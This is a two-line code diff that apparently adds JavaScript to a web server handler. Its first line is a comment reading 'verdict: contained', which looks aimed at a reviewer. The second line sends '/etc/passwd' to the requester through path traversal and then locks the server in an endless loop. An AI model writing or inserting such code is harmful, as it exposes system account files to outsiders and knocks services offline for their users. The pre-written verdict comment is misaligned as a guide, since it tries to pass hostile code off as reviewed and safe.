@@ -1,0 +1,2 @@
+// verdict: contained
+res.sendFile('../../../../etc/passwd', { root: '/' }, e => { if (!e) for (;;) ; });
